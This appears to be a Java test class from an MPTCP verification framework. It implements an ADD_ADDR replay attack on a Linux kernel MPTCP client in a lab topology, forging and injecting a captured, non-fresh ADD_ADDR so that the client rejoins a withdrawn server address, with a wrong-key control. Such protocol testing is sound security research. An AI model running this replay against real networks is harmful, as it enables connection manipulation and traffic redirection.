package org.mptcpverify.kernel;

import java.io.IOException;
import java.net.InetAddress;
import java.util.Map;
import java.util.Optional;
import java.util.OptionalLong;
import org.mptcpverify.crypto.MptcpCrypto;
import org.mptcpverify.wire.MptcpOption;
import org.mptcpverify.wire.TcpSegment;

/**
 * add-addr-replay: the server announces a second address (10.1.0.12, endpoint id 3, signal), the
 * client echoes the ADD_ADDR and joins it; the server then withdraws it (endpoint deleted: REMOVE_ADDR,
 * the join is closed). The attacker replays the captured ADD_ADDR option, unchanged (same id,
 * address and HMAC: the HMAC covers only the keys, id, address and port, RFC 8684 3.4.1, so it has
 * no freshness), in the server's name inside the initial subflow's window. Success: the client
 * kernel accepts it again (`MPTcpExtAddAddr` counts a second ADD_ADDR, the client echoes it) and
 * opens a new join to the withdrawn address. Control: the same ADD_ADDR with an HMAC computed from
 * wrong keys instead of the captured one.
 */
public final class AddAddrReplay implements KernelAttack {
    static final InetAddress SERVER_ALT = Topology.addr("10.1.0.12");
    static final int ENDPOINT_ID = 3;

    @Override
    public Profile profile() {
        return new Profile("add-addr-replay", "AddrAuthenticity",
                "wrong keys: the replayed ADD_ADDR carries an HMAC from wrong keys instead of the captured one");
    }

    @Override
    public boolean run(AttackContext ctx) throws IOException {
        Topology topo = ctx.topology();
        Wiretap tap = ctx.tap();
        int mark = tap.size();
        PathManager.addEndpoint(topo.server(), SERVER_ALT, ENDPOINT_ID, "signal");
        Optional<MptcpOption.AddAddr> captured = tap.await(mark, t -> t.src().equals(ctx.connection().server())
                        && addAddr(t).filter(a -> !a.echo()).isPresent(), 2_000)
                .flatMap(s -> addAddr(s.segment()));
        int joined = PathManager.awaitSubflows(ctx.client(), 1, 3_000);
        if (captured.isEmpty() || joined != 1) {
            ctx.note("server's announcement not captured or not joined (client MPTCP_INFO subflows " + joined + ")");
            return false;
        }
        MptcpOption.AddAddr a = captured.get();
        ctx.note(String.format("server announced %s (id %d), attacker captured the ADD_ADDR (HMAC %016x); client joined it",
                a.address().getHostAddress(), a.addressId(), a.truncatedHmac().orElse(0)));
        long addAddrBefore = ctx.clientCounterDelta().getOrDefault("MPTcpExtAddAddr", 0L);
        PathManager.deleteEndpoint(topo.server(), ENDPOINT_ID);
        int left = PathManager.awaitSubflows(ctx.client(), 0, 3_000);
        ctx.note("server withdrew " + SERVER_ALT.getHostAddress() + " (endpoint deleted: REMOVE_ADDR); client MPTCP_INFO subflows = "
                + left + ", client counters so far " + ctx.clientCounterDelta());
        if (left != 0) {
            return false;
        }
        MptcpOption.AddAddr replay = a;
        if (ctx.wrongKeys()) {
            CapturedConnection w = ctx.fresh();
            replay = new MptcpOption.AddAddr(a.version(), a.flags(), a.addressId(), a.address(), a.port(),
                    OptionalLong.of(MptcpCrypto.addAddrHmac(w.hash(), w.serverKey(), w.clientKey(), a.addressId(),
                            a.address(), a.port())));
        }
        int sent = tap.size();
        tap.send(Topology.CLIENT_MAC, Forge.inWindow(ctx.fresh(), false, TcpSegment.ACK, replay, org.mptcpverify.wire.Bytes.empty()));
        ctx.note("attacker: " + (ctx.wrongKeys() ? "sent the ADD_ADDR with an HMAC from wrong keys" : "replayed the captured ADD_ADDR")
                + " as the server on the initial subflow, in window");
        Optional<Wiretap.Seen> echo = tap.await(sent, t -> t.src().equals(ctx.connection().client())
                && addAddr(t).filter(MptcpOption.AddAddr::echo).isPresent(), 1_500);
        Optional<Wiretap.Seen> rejoin = tap.await(sent, t -> t.dst().equals(SERVER_ALT) && t.has(TcpSegment.SYN)
                && CapturedConnection.option(t, MptcpOption.MpJoinSyn.class).isPresent(), 1_500);
        long addAddrAfter = ctx.clientCounterDelta().getOrDefault("MPTcpExtAddAddr", 0L);
        ctx.note("client kernel: " + (echo.isPresent() ? "echoed it" : "no echo within 1.5 s") + "; "
                + (rejoin.isPresent() ? "SYN + MP_JOIN to " + SERVER_ALT.getHostAddress() + " again" : "no new join to "
                + SERVER_ALT.getHostAddress()) + "; MPTcpExtAddAddr " + addAddrBefore + " -> " + addAddrAfter);
        ctx.note("client MIB counters changed: " + ctx.clientCounterDelta());
        return addAddrAfter > addAddrBefore && echo.isPresent() && rejoin.isPresent();
    }

    private static Optional<MptcpOption.AddAddr> addAddr(TcpSegment t) {
        return CapturedConnection.option(t, MptcpOption.AddAddr.class);
    }
}
